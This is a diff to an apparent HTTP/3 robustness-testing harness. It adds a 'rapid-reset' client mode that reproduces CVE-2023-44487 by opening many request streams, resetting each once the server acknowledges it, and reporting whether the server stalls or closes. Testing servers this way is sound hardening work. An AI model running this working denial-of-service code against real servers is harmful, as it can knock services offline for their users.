@@ -17,6 +17,15 @@ Client floods (``--count N``), each reporting ``resets`` (RESET_STREAM codes see
 table capacity the server allows, so each evicts older ones) and ``qpack-oversized-insert``
 (one entry larger than that capacity: QPACK_ENCODER_STREAM_ERROR).
 
+``rapid-reset`` (the "rapid reset" attack, CVE-2023-44487's HTTP/3 form): N requests, each a
+HEADERS frame (``GET --path``, the request left open) on a new stream, reset (RESET_STREAM and
+STOP_SENDING, H3_REQUEST_CANCELLED) once the server has acknowledged its HEADERS, so it has
+taken the request; in rounds of as many streams as the server allows. When the server grants
+no more streams it waits up to ``--stall`` seconds for more, printing ``{"stalled": true,
+"requests": ...}`` once as it starts waiting. Reports ``requests`` and ``resets`` sent,
+``streams_allowed`` (the server's bidirectional stream limit at the end), ``stalled``,
+``closed``, ``reason`` and ``alive``.
+
 Server modes (the answer to every request): ``uppercase-field``, ``missing-status``,
 ``qpack-garbage``, ``encoder-stream-garbage``, ``body-past-content-length``. The server prints
 ``listening <port>`` first, then one JSON line per connection that ended.
@@ -181,6 +190,73 @@ class _IgnoringDecoderStream:
         return getattr(self._encoder, name)
 
 
+H3_REQUEST_CANCELLED = 0x10C
+
+
+async def run_rapid_reset_client(args: argparse.Namespace) -> int:
+    configuration = QuicConfiguration(alpn_protocols=H3_ALPN, is_client=True, server_name=args.sni or args.host)
+    if args.ca:
+        configuration.load_verify_locations(args.ca)
+    loop = asyncio.get_running_loop()
+    report = {"requests": 0, "resets": 0, "stalled": False}
+    async with connect(args.host, args.port, configuration=configuration, create_protocol=HostileClient) as client:
+        quic = client._quic
+        original = client.quic_event_received
+        reason = {"text": None}
+
+        def note(event: QuicEvent) -> None:
+            if isinstance(event, ConnectionTerminated):
+                reason["text"] = event.reason_phrase
+            original(event)
+
+        client.quic_event_received = note  # type: ignore[method-assign]
+        authority = f"{args.sni or args.host}:{args.port}".encode()
+        headers = [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", authority), (b":path", args.path.encode())]
+        said_stalled = False
+        while report["requests"] < args.count and client.observed.closed is None:
+            next_id = quic.get_next_available_stream_id()
+            available = quic._remote_max_streams_bidi - next_id // 4
+            if available <= 0:
+                # The server grants no more streams until requests it holds are done.
+                if not said_stalled:
+                    said_stalled = True
+                    report["stalled"] = True
+                    print(json.dumps({"stalled": True, "requests": report["requests"]}), flush=True)
+                deadline = loop.time() + args.stall
+                while quic._remote_max_streams_bidi <= next_id // 4 and client.observed.closed is None and loop.time() < deadline:
+                    await asyncio.sleep(0.01)
+                if quic._remote_max_streams_bidi <= next_id // 4:
+                    break
+                continue
+            batch = []
+            for _ in range(min(available, args.count - report["requests"], 100)):
+                stream_id = quic.get_next_available_stream_id()
+                quic.send_stream_data(stream_id, encode_frame(FrameType.HEADERS, client.h3._encode_headers(stream_id, headers)))
+                batch.append(stream_id)
+                report["requests"] += 1
+            client.transmit()
+            # Reset each once the server has acknowledged its HEADERS (it took the request).
+            deadline = loop.time() + args.timeout
+            while client.observed.closed is None and loop.time() < deadline and any(
+                    quic._streams[stream_id].sender._buffer_start < quic._streams[stream_id].sender._buffer_stop for stream_id in batch):
+                await asyncio.sleep(0.001)
+            if client.observed.closed is not None:
+                break
+            for stream_id in batch:
+                quic.reset_stream(stream_id, H3_REQUEST_CANCELLED)
+                quic.stop_stream(stream_id, H3_REQUEST_CANCELLED)
+                report["resets"] += 1
+            client.transmit()
+        # The server's answer to the last round: a close, or its acknowledgements.
+        deadline = loop.time() + min(args.timeout, 5)
+        while client.observed.closed is None and loop.time() < deadline:
+            await asyncio.sleep(0.05)
+        report.update({"streams_allowed": quic._remote_max_streams_bidi, "closed": client.observed.closed,
+                       "reason": reason["text"], "alive": client.observed.closed is None})
+        print(json.dumps(report), flush=True)
+    return 0
+
+
 async def run_flood_client(args: argparse.Namespace) -> int:
     configuration = QuicConfiguration(alpn_protocols=H3_ALPN, is_client=True, server_name=args.sni or args.host)
     if args.ca:
@@ -297,6 +373,8 @@ def main(argv: list) -> int:
     client.add_argument("--sni")
     client.add_argument("--timeout", type=float, default=10)
     client.add_argument("--count", type=int, default=20)
+    client.add_argument("--path", default="/")
+    client.add_argument("--stall", type=float, default=30)
     server = sub.add_parser("server")
     server.add_argument("--mode", required=True)
     server.add_argument("--host", default="127.0.0.1")
@@ -304,6 +382,8 @@ def main(argv: list) -> int:
     server.add_argument("--cert", required=True)
     server.add_argument("--key", required=True)
     args = parser.parse_args(argv)
+    if args.role == "client" and args.mode == "rapid-reset":
+        return asyncio.run(run_rapid_reset_client(args))
     if args.role == "client" and args.mode in ("field-section-flood", "qpack-insert-flood", "qpack-oversized-insert"):
         return asyncio.run(run_flood_client(args))
     return asyncio.run(run_client(args) if args.role == "client" else run_server(args))
